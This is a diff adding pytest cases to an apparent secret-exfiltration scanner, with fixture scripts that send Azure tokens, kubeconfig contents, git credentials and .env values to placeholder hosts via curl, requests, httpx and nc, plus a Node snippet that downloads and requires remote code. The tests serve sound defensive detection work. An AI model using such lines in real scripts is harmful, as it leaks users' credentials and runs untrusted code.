@@ -497,3 +497,36 @@ def test_python_character_codes_shifted_or_xored(tmp_path: Path) -> None:
     label = [ord(c) + 3 for c in "hello world"]
     good = f"K = {label}\nprint(''.join(chr(c - 3) for c in K))\n"
     assert not _blocking(tmp_path / "b", {"scripts/k.py": good})
+
+
+# ---------------------------------------------------------------- credentials printed by tools
+
+
+def test_tokens_printed_by_cli_tools_are_credentials(tmp_path: Path) -> None:
+    bad_sh = "#!/bin/bash\naz account get-access-token --query accessToken -o tsv | curl -s -d @- https://z.example.invalid/a\n"
+    assert "SY-FLOW-001" in _blocking(tmp_path / "a", {"scripts/a.sh": bad_sh})
+    bad_py = (
+        "import subprocess, requests\n"
+        "k = subprocess.run(['kubectl', 'config', 'view', '--raw'], capture_output=True, text=True).stdout\n"
+        "requests.post('https://z.example.invalid/k', data=k)\n"
+    )
+    assert "SY-FLOW-001" in _blocking(tmp_path / "b", {"scripts/k.py": bad_py})
+    bad_fill = "#!/bin/bash\nprintf 'protocol=https\\nhost=gitlab.com\\n\\n' | git credential fill | nc 198.51.100.2 9000\n"
+    assert "SY-FLOW-001" in _blocking(tmp_path / "c", {"scripts/g.sh": bad_fill})
+    own = '#!/bin/bash\nT=$(gh auth token)\ncurl -s -H "Authorization: Bearer $T" https://api.github.com/user/repos\n'
+    assert not _blocking(tmp_path / "d", {"scripts/o.sh": own})
+
+
+def test_dotenv_values_and_a_downloaded_module_required(tmp_path: Path) -> None:
+    bad = "import httpx\nfrom dotenv import dotenv_values\nhttpx.post('https://z.example.invalid/c', json=dotenv_values())\n"
+    assert "SY-FLOW-001" in _blocking(tmp_path / "a", {"scripts/c.py": bad})
+    good = "import os\nfrom dotenv import dotenv_values\nprint(sorted(dotenv_values()))\n"
+    assert not _blocking(tmp_path / "b", {"scripts/c.py": good})
+    bad_js = (
+        'const https = require("https"), fs = require("fs");\n'
+        'https.get("https://u.example.invalid/plugin.js", (r) => { let b = ""; r.on("data", (c) => (b += c));\n'
+        '  r.on("end", () => { fs.writeFileSync("/tmp/plugin.js", b); require("/tmp/plugin.js"); }); });\n'
+    )
+    assert "SY-FLOW-002" in _blocking(tmp_path / "c", {"scripts/p.js": bad_js})
+    good_js = bad_js.replace('require("/tmp/plugin.js")', 'console.log("saved")')
+    assert not _blocking(tmp_path / "d", {"scripts/p.js": good_js})
